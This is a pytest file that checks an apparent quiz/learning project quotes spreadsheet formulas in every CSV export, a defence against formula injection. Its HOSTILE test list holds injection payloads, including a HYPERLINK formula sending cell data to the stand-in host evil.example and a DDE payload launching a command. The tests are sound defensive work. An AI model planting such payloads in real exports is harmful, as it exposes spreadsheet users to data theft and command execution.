"""Spreadsheet formula injection (issue 13): every CSV the project writes keeps text as text.

A learner named =HYPERLINK(...) must reach the instructor's spreadsheet as a quoted string.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import tomllib
from pathlib import Path

import pandas as pd
import pytest

from adaptlab.quiz import bundled_bank
from adaptlab.quiz.export import to_csv
from adaptlab.spreadsheet import FORMULA_STARTS, safe_cell, safe_frame
from adaptlab.store import Store

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Grade")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    bad = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
    assert not bad, bad


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_quotes_formula_starts(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Sam") == "Sam" and safe_cell(-2) == -2 and safe_cell(None) is None


def test_safe_frame_keeps_numbers_and_quotes_text():
    frame = pd.DataFrame({"learner": HOSTILE, "score": range(len(HOSTILE))})
    out = safe_frame(frame)
    assert list(out["score"]) == list(range(len(HOSTILE)))
    assert all(v.startswith("'") for v in out["learner"])
    assert list(frame["learner"]) == HOSTILE  # the input is not modified


def hostile_store(url: str) -> Store:
    store = Store(url)
    for name in HOSTILE:
        store.record_attempt(name, "cls-lialin-lora", "reparam", True, 1.0, topic="classification")
    return store


def test_results_csv_neutralises_learner_names(tmp_path):
    text = hostile_store(f"sqlite:///{tmp_path / 'q.db'}").results_csv()
    assert_no_formula(text)
    assert "'=HYPERLINK(" in text


def test_the_results_export_command_writes_no_formula(tmp_path):
    url = f"sqlite:///{tmp_path / 'q.db'}"
    hostile_store(url)
    out = tmp_path / "results.csv"
    done = subprocess.run([sys.executable, "-m", "adaptlab", "results", "export", "--out",
                           str(out), "--db", url], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    assert_no_formula(out.read_text(encoding="utf-8"))


def test_the_quiz_bank_csv_writes_no_formula():
    assert_no_formula(to_csv(list(bundled_bank().questions)))


def test_streamlit_tables_offer_no_raw_csv_download():
    # st.dataframe's own "Download as CSV" writes cells unquoted (issue 13); the app's download
    # buttons write through adaptlab.spreadsheet instead.
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_every_csv_writer_goes_through_the_spreadsheet_module():
    offenders = []
    for path in [*ROOT.glob("adaptlab/**/*.py"), *ROOT.glob("ui/*.py"), *ROOT.glob("pages/*.py")]:
        text = path.read_text(encoding="utf-8")
        for needle in (".to_csv(", "csv.writer(", "csv.DictWriter("):
            if needle in text and path.name != "spreadsheet.py":
                offenders.append((path.relative_to(ROOT).as_posix(), needle))
    # The known writers, each checked to pass its cells through safe_row/safe_frame/safe CSV:
    allowed = {("adaptlab/quiz/export.py", "csv.DictWriter("),
               ("ui/class_results.py", ".to_csv(")}
    assert set(offenders) <= allowed, set(offenders) - allowed
    assert "safe_row(" in (ROOT / "adaptlab/quiz/export.py").read_text(encoding="utf-8")
    instructor = (ROOT / "ui/class_results.py").read_text(encoding="utf-8")
    assert instructor.count(".to_csv(") == instructor.count("spreadsheet_safe(") == 3
